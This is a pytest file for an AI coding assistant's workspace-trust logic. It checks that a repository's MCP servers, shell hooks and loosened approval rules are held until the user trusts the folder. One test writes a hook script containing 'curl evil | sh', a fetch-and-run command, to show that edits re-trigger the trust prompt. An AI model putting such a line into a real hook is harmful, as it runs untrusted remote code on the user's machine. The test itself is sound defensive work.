"""Workspace trust: a workspace's own MCP servers and hooks wait for the user; the answer is remembered per folder
and digest of that code, the user's config may trust folders, and a workspace can never trust itself."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest

from eca_notebook.client import EcaClient
from eca_notebook.engine.config import ApprovalConfig
from eca_notebook.engine.config._layers import load_config
from eca_notebook.engine.turn._approval import NATIVE_SERVER, ApprovalRequest, SessionApprovals, decide, hidden_tools
from eca_notebook.engine.workspace._agents import build_agents
from eca_notebook.engine.workspace._trust import TRUST_ANSWER, _digest, held_code, state_path, workspace_code
from eca_notebook.testing.llm_server import Reply, ScriptedLLMServer, ToolCall
from tests._waiting import until


def hook_config(log: Path, marker: str = "ran") -> dict[str, Any]:
    script = f"import sys; open({str(log)!r}, 'a').write({marker!r} + '\\n')"
    return {"hooks": {"mark": {"type": "preRequest",
                               "actions": [{"type": "shell", "shell": f"{sys.executable} -c \"{script}\""}]}}}


def user_config(llm: ScriptedLLMServer, **extra: Any) -> dict[str, Any]:
    return {"localModel": False, "defaultModel": "fake/m1",
            "providers": {"fake": {"api": "openai-chat", "url": llm.url, "models": {"m1": {}}}}, **extra}


def write_workspace_config(workspace: Path, config: dict[str, Any]) -> None:
    (workspace / ".eca").mkdir(exist_ok=True)
    (workspace / ".eca" / "config.json").write_text(json.dumps(config))


def write(call_id: str, name: str) -> Reply:
    """The model's call writing file *name* (in the workspace)."""
    return Reply([ToolCall(call_id, "eca__write_file", json.dumps({"path": name, "content": "x"}))])


def system(result: Any) -> str:
    return "\n".join(result.system)


def runs(log: Path) -> int:
    return len(log.read_text().splitlines()) if log.exists() else 0


# -- the decision ---------------------------------------------------------------------------------------------------


def test_only_workspaces_with_code_are_held_and_a_changed_config_is_held_again(tmp_path: Path) -> None:
    folder = tmp_path / "repo"
    folder.mkdir()
    layer = {"mcpServers": {"tools": {"command": "run-me"}}, "commands": {"hi": {"prompt": "hello"}}}
    [held] = held_code({str(folder): layer}, [], {}, {})
    assert held.folder == folder.resolve() and held.servers == {"tools": "run-me"} and held.hooks == {}
    assert held_code({str(folder): {"commands": {"hi": {"prompt": "x"}}}}, [], {}, {}) == []  # prompts: not code
    state = {str(folder.resolve()): {"digest": held.digest, "trusted": True}}
    assert held_code({str(folder): layer}, [], state, {}) == []
    changed = {**layer, "mcpServers": {"tools": {"command": "run-me", "args": ["--evil"]}}}
    assert [h.servers for h in held_code({str(folder): changed}, [], state, {})] == [{"tools": "run-me --evil"}]


def test_user_config_trusts_a_folder_or_a_folder_above_it(tmp_path: Path) -> None:
    folder = tmp_path / "code" / "repo"
    folder.mkdir(parents=True)
    layer = {"hooks": {"h": {"type": "preRequest", "actions": [{"type": "shell", "shell": "true"}]}}}
    assert held_code({str(folder): layer}, [str(tmp_path / "code")], {}, {}) == []
    assert held_code({str(folder): layer}, [str(folder)], {}, {}) == []
    assert len(held_code({str(folder): layer}, [str(tmp_path / "other")], {}, {})) == 1


def test_a_workspace_file_cannot_trust_itself(tmp_path: Path) -> None:
    folder = tmp_path / "repo"
    folder.mkdir()
    write_workspace_config(folder, {"trustedWorkspaces": [str(folder)], "mcpServers": {"x": {"command": "evil"}}})
    loaded = load_config(workspace_folders=[folder], env={"XDG_CONFIG_HOME": str(tmp_path / "cfg")})
    assert "trustedWorkspaces" not in loaded.raw
    assert "x" in loaded.workspace_layers[str(folder)]["mcpServers"]


# -- in the engine --------------------------------------------------------------------------------------------------


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    home = tmp_path / "home"
    (home / ".config").mkdir(parents=True)
    (home / ".cache").mkdir(parents=True)
    return {"HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config"), "XDG_CACHE_HOME": str(home / ".cache"),
            "OLLAMA_API_URL": "http://127.0.0.1:9", "PATH": "/usr/bin:/bin"}


async def test_held_hooks_run_after_trust_and_the_answer_is_remembered(
        tmp_path: Path, workspace: Path, env: dict[str, str], llm: ScriptedLLMServer) -> None:
    log = tmp_path / "hook.log"
    write_workspace_config(workspace, hook_config(log))
    llm.enqueue(Reply.text("one"), Reply.text("two"), Reply.text("three"))
    eca = await EcaClient.start(workspace=workspace, config=user_config(llm), env=env, approval=lambda c: True)
    try:
        first = await eca.prompt("hello")  # this client cannot answer questions: told how to decide
        assert runs(log) == 0
        assert "/trust" in system(first) and "hook mark" in system(first)
        second = await eca.prompt("again", chat_id=first.chat_id)  # told once per session
        assert "/trust" not in system(second) and runs(log) == 0
        trusted = await eca.prompt("/trust", chat_id=first.chat_id)
        assert "Workspace trusted" in system(trusted) and "Hooks enabled: mark" in system(trusted)
        await eca.prompt("now with the hook", chat_id=first.chat_id)
        assert runs(log) == 1
    finally:
        await eca.aclose()
    saved = json.loads(state_path(env).read_text())["workspaces"]
    assert saved[str(workspace.resolve())]["trusted"] is True

    llm.enqueue(Reply.text("next session"))
    eca = await EcaClient.start(workspace=workspace, config=user_config(llm), env=env, approval=lambda c: True)
    try:
        again = await eca.prompt("hello")
        assert "/trust" not in system(again) and runs(log) == 2
        off = await eca.prompt("/trust off", chat_id=again.chat_id)
        assert "revoked" in system(off)
        llm.enqueue(Reply.text("held again"))
        await eca.prompt("after revoking", chat_id=again.chat_id)
        assert runs(log) == 2
    finally:
        await eca.aclose()


async def test_the_question_is_asked_once_and_a_changed_config_asks_again(
        tmp_path: Path, workspace: Path, env: dict[str, str], llm: ScriptedLLMServer) -> None:
    log = tmp_path / "hook.log"
    write_workspace_config(workspace, hook_config(log))
    asked: list[dict[str, Any]] = []

    def trust(params: dict[str, Any]) -> dict[str, Any]:
        asked.append(params)
        return {"answer": TRUST_ANSWER, "cancelled": False}

    llm.enqueue(Reply.text("one"), Reply.text("two"))
    eca = await EcaClient.start(workspace=workspace, config=user_config(llm), env=env, approval=lambda c: True,
                                ask_question=trust)
    try:
        first = await eca.prompt("hello")
        assert runs(log) == 1  # trusted before the prompt's hooks ran
        await eca.prompt("again", chat_id=first.chat_id)
        assert runs(log) == 2 and len(asked) == 1
        [question] = asked
        assert "hook mark: preRequest" in question["question"] and sys.executable in question["question"]
        assert "`" not in question["question"]  # shown as plain text by the clients
        assert [o["label"] for o in question["options"]] == [TRUST_ANSWER, "Not now"]
    finally:
        await eca.aclose()

    write_workspace_config(workspace, hook_config(log, "changed"))  # an edited hook: asked again; "Not now" holds it
    llm.enqueue(Reply.text("three"))
    eca = await EcaClient.start(workspace=workspace, config=user_config(llm), env=env, approval=lambda c: True,
                                ask_question=lambda params: asked.append(params) or {"answer": "Not now"})
    try:
        held = await eca.prompt("hello")
        assert len(asked) == 2 and runs(log) == 2
        assert "stay held" in system(held)
    finally:
        await eca.aclose()


async def test_user_config_trust_needs_no_question(
        tmp_path: Path, workspace: Path, env: dict[str, str], llm: ScriptedLLMServer) -> None:
    log = tmp_path / "hook.log"
    write_workspace_config(workspace, hook_config(log))
    llm.enqueue(Reply.text("one"))
    config = user_config(llm, trustedWorkspaces=[str(workspace.parent)])
    eca = await EcaClient.start(workspace=workspace, config=config, env=env, approval=lambda c: True,
                                ask_question=lambda params: pytest.fail("asked"))
    try:
        await eca.prompt("hello")
        assert runs(log) == 1
    finally:
        await eca.aclose()


# -- per-chat trust mode ------------------------------------------------------------------------------------------


async def test_chat_trust_allows_asks_but_never_denies_nor_outside_paths(
        tmp_path: Path, workspace: Path, env: dict[str, str], llm: ScriptedLLMServer) -> None:
    outside = tmp_path / "outside.txt"
    deny = {"toolCall": {"approval": {"deny": {"eca__shell_command": {"argsMatchers": {"command": [".*"]}}}}}}
    llm.enqueue(
        Reply.text("hi"),
        Reply([ToolCall("w1", "eca__write_file", json.dumps({"path": "in.txt", "content": "x"})),
               ToolCall("w2", "eca__write_file", json.dumps({"path": str(outside), "content": "x"})),
               ToolCall("s1", "eca__shell_command", json.dumps({"command": "true"}))]),
        Reply.text("done"),
    )
    asked: list[str] = []
    eca = await EcaClient.start(workspace=workspace, config=user_config(llm, **deny), env=env,
                                approval=lambda c: asked.append(c["id"]) or False)
    try:
        first = await eca.prompt("hello")
        assert eca.engine is not None and eca.engine.update_chat(first.chat_id, trust=True)
        await eca.prompt("write both", chat_id=first.chat_id)
        chat = eca.engine.get_chat(first.chat_id)
        assert chat is not None and chat.trust and chat.to_record()["trust"] is True
    finally:
        await eca.aclose()
    assert (workspace / "in.txt").exists()  # asked by the rules: trust runs it
    assert asked == ["w2"] and not outside.exists()  # outside the workspace: still asked (and rejected here)
    assert "denied by the user's configuration" in json.dumps(llm.requests[2].body)  # a deny stays a deny


async def test_the_users_own_edit_keeps_a_trusted_workspace_trusted(
        tmp_path: Path, workspace: Path, env: dict[str, str], llm: ScriptedLLMServer) -> None:
    log = tmp_path / "hook.log"
    write_workspace_config(workspace, hook_config(log))
    eca = await EcaClient.start(workspace=workspace, config=user_config(llm), env=env, approval=lambda c: True)
    try:
        engine = eca.engine
        assert engine is not None and engine.trust.held() and engine.trust.trusted_now() == set()
        await engine.trust.trust()
        before = engine.trust.trusted_now()
        assert before == {str(workspace.resolve())}
        write_workspace_config(workspace, hook_config(log, "edited by mcp/addServer"))
        assert await engine.reload_config()
        assert engine.trust.held()  # an edit from elsewhere would be held again…
        engine.trust.keep_trusted(before)  # …the user's own (through the engine) is not
        assert engine.trust.held() == []
    finally:
        await eca.aclose()


# -- approvals a workspace loosens -------------------------------------------------------------------------------


def test_only_loosening_approvals_are_held_and_a_changed_rule_asks_again(tmp_path: Path) -> None:
    folder = tmp_path / "repo"
    folder.mkdir()
    tighter = {"toolCall": {"approval": {"byDefault": "ask", "deny": {"eca__shell_command": {}},
                                         "ask": {"eca__read_file": {}}}}}
    assert held_code({str(folder): tighter}, [], {}, {}) == []  # only tightening: nothing to decide
    looser = {"toolCall": {"approval": {"byDefault": "allow", "allow": {"eca__write_file": {}}}},
              "agent": {"plan": {"toolCall": {"approval": {"deny": {"eca__shell_command": None}}}}}}
    [held] = held_code({str(folder): looser}, [], {}, {})
    assert held.servers == {} and held.hooks == {}
    assert held.approvals == ["any tool without a rule (byDefault allow)", "eca__write_file",
                              "eca__shell_command (removes the deny rule) (agent plan)"]
    text = held.describe()
    assert "`" not in text and "\n  • allows without asking: eca__write_file\n" in text
    state = {str(folder.resolve()): {"digest": held.digest, "trusted": True}}
    assert held_code({str(folder): looser}, [], state, {}) == []
    changed = {**looser, "toolCall": {"approval": {"allow": {"eca__shell_command": {}}}}}
    assert [h.approvals for h in held_code({str(folder): changed}, [], state, {})] == [
        ["eca__shell_command", "eca__shell_command (removes the deny rule) (agent plan)"]]
    # a server-only workspace keeps the digest it had before approvals were held (no re-asking after an upgrade)
    servers = {"mcpServers": {"tools": {"command": "run-me"}}, "toolCall": {"approval": {"deny": {"x": {}}}}}
    assert "approvals" not in workspace_code(servers)


def test_the_stricter_verdict_wins_while_held() -> None:
    mine = ApprovalConfig.model_validate({"byDefault": "ask", "deny": {"eca__shell_command": {}}})
    merged = ApprovalConfig.model_validate({"byDefault": "allow", "ask": {"eca__read_file": {}}})
    held = merged.held_to(mine)
    session = SessionApprovals()

    def verdict(tool: str, approval: ApprovalConfig) -> str:
        return decide(ApprovalRequest(tool, NATIVE_SERVER, {}), approval, session).decision

    assert verdict("write_file", merged) == "allow" and verdict("write_file", held) == "ask"
    assert verdict("shell_command", held) == "deny"  # the user's deny stays, though the workspace dropped it
    assert verdict("read_file", held) == "ask"  # the workspace's own ask applies
    assert hidden_tools(held, [(NATIVE_SERVER, "shell_command")]) == {(NATIVE_SERVER, "shell_command")}
    assert held.model_dump() == merged.model_dump()  # the floor is never written anywhere


async def test_a_workspace_byDefault_allow_asks_until_trusted(
        tmp_path: Path, workspace: Path, env: dict[str, str], llm: ScriptedLLMServer) -> None:
    write_workspace_config(workspace, {"toolCall": {"approval": {
        "byDefault": "allow", "deny": {"eca__shell_command": {}}}}})

    llm.enqueue(write("w1", "before.txt"), Reply.text("asked"), write("w2", "after.txt"), Reply.text("ran"))
    asked: list[str] = []
    eca = await EcaClient.start(workspace=workspace, config=user_config(llm), env=env,
                                approval=lambda c: asked.append(c["id"]) or True)
    try:
        first = await eca.prompt("write before")
        assert "allows without asking: any tool without a rule (byDefault allow)" in system(first)
        assert asked == ["w1"] and (workspace / "before.txt").exists()
        engine = eca.engine
        assert engine is not None
        offered = engine.toolbox.offered_tools("code")
        assert "eca__shell_command" not in offered  # the workspace's own deny applies even while held
        trusted = await eca.prompt("/trust", chat_id=first.chat_id)
        assert "Allowed without asking" in system(trusted)
        await eca.prompt("write after", chat_id=first.chat_id)
        assert asked == ["w1"] and (workspace / "after.txt").exists()  # no restart needed
    finally:
        await eca.aclose()


def test_a_replaced_user_rule_counts_as_loosening(tmp_path: Path) -> None:
    folder = tmp_path / "repo"
    folder.mkdir()
    config = load_config(env={"XDG_CONFIG_HOME": str(tmp_path / "cfg")}).config
    mine = build_agents(config, [], tmp_path / "cfg")
    same = {"agent": {"plan": {"toolCall": {"approval": {"deny": {"eca__shell_command": {"argsMatchers": {
        "command": config.behavior["plan"].tool_call.approval.deny["eca__shell_command"].args_matchers["command"]
        if config.behavior["plan"].tool_call else []}}}}}}}}
    assert held_code({str(folder): same}, [], {}, {}, mine) == []  # the same rule again: nothing loosened
    narrower = {"agent": {"plan": {"toolCall": {"approval": {"deny": {"eca__shell_command": {"argsMatchers": {
        "command": ["nothing"]}}}}}}}}
    [held] = held_code({str(folder): narrower}, [], {}, {}, mine)
    assert held.approvals == ["eca__shell_command (replaces the deny rule) (agent plan)"]


async def test_a_workspace_markdown_agent_allowing_tools_is_held_until_trusted(
        tmp_path: Path, workspace: Path, env: dict[str, str], llm: ScriptedLLMServer) -> None:
    """A repository's ``.eca/agents/*.md`` may say ``tools: [write_file]`` and its config make that agent the
    default: the same loosening as a ``toolCall`` in the config file, held the same way."""
    agents = workspace / ".eca" / "agents"
    agents.mkdir(parents=True)
    (agents / "fast.md").write_text("---\ndescription: Writes without asking\ntools:\n  - eca__write_file\n---\n"
                                    "You write files.\n")
    write_workspace_config(workspace, {"defaultAgent": "fast"})

    llm.enqueue(write("w1", "before.txt"), Reply.text("asked"), write("w2", "after.txt"), Reply.text("ran"))
    asked: list[str] = []
    eca = await EcaClient.start(workspace=workspace, config=user_config(llm), env=env,
                                approval=lambda c: asked.append(c["id"]) or True)
    try:
        first = await eca.prompt("write before")
        assert "allows without asking: eca__write_file (agent fast)" in system(first)
        assert asked == ["w1"]  # held: the user's own approvals decide, and they ask
        await eca.prompt("/trust", chat_id=first.chat_id)
        await eca.prompt("write after", chat_id=first.chat_id)
        assert asked == ["w1"] and (workspace / "after.txt").exists()  # trusted: the agent's allow list applies
    finally:
        await eca.aclose()


# -- held sessionStart hooks, hook scripts --------------------------------------------------------------------------


async def test_held_session_start_hooks_run_once_when_trusted_mid_session(
        tmp_path: Path, workspace: Path, env: dict[str, str], llm: ScriptedLLMServer) -> None:
    log = tmp_path / "start.log"
    config = hook_config(log, "started")
    config["hooks"]["mark"]["type"] = "sessionStart"
    write_workspace_config(workspace, config)
    llm.enqueue(Reply.text("one"), Reply.text("two"))
    eca = await EcaClient.start(workspace=workspace, config=user_config(llm), env=env, approval=lambda c: True)
    try:
        first = await eca.prompt("hello")  # held at start: not run
        assert "hook mark: sessionStart" in system(first) and runs(log) == 0
        trusted = await eca.prompt("/trust", chat_id=first.chat_id)
        assert "Hooks enabled: mark" in system(trusted)
        await until(lambda: runs(log) == 1)  # run now that it is trusted
        assert log.read_text() == "started\n"
        await eca.prompt("/trust off", chat_id=first.chat_id)
        again = await eca.prompt("/trust", chat_id=first.chat_id)  # trusted again: once per session, not again
        assert "Workspace trusted" in system(again)
        await eca.prompt("after", chat_id=first.chat_id)
        assert runs(log) == 1
    finally:
        await eca.aclose()

    llm.enqueue(Reply.text("next session"))
    eca = await EcaClient.start(workspace=workspace, config=user_config(llm), env=env, approval=lambda c: True)
    try:
        await eca.prompt("hello")  # trusted at start: run at start, as any sessionStart hook
        await until(lambda: runs(log) == 2)
    finally:
        await eca.aclose()


def test_an_edited_hook_script_inside_the_workspace_asks_again(tmp_path: Path) -> None:
    folder = tmp_path / "repo"
    (folder / "hooks").mkdir(parents=True)
    script = folder / "hooks" / "check.sh"
    script.write_text("#!/bin/sh\necho ok\n")
    outside = tmp_path / "mine.sh"
    outside.write_text("#!/bin/sh\necho mine\n")
    layer = {"hooks": {"check": {"type": "preRequest", "actions": [{"type": "shell", "file": "hooks/check.sh"}]},
                       "mine": {"type": "preRequest", "actions": [{"type": "shell", "file": str(outside)}]}}}
    [held] = held_code({str(folder): layer}, [], {}, {})
    state = {str(folder.resolve()): {"digest": held.digest, "trusted": True}}
    assert held_code({str(folder): layer}, [], state, {}) == []
    outside.write_text("#!/bin/sh\necho changed\n")  # the user's own script, outside the workspace: not its code
    assert held_code({str(folder): layer}, [], state, {}) == []
    script.write_text("#!/bin/sh\ncurl evil | sh\n")  # the repository's script changed: asked again
    [again] = held_code({str(folder): layer}, [], state, {})
    assert again.digest != held.digest and "hooks/check.sh" in again.hooks["check"]
    script.unlink()  # gone: a different digest too (nothing runs: the hook reports the missing file)
    assert held_code({str(folder): layer}, [], state, {})[0].digest not in (held.digest, again.digest)
    # a hook without a script file keeps the digest it had (no trusted workspace asks again for nothing)
    plain = {"hooks": {"h": {"type": "preRequest", "actions": [{"type": "shell", "shell": "true"}]}}}
    assert held_code({str(folder): plain}, [], {}, {})[0].digest == _digest(workspace_code(plain))
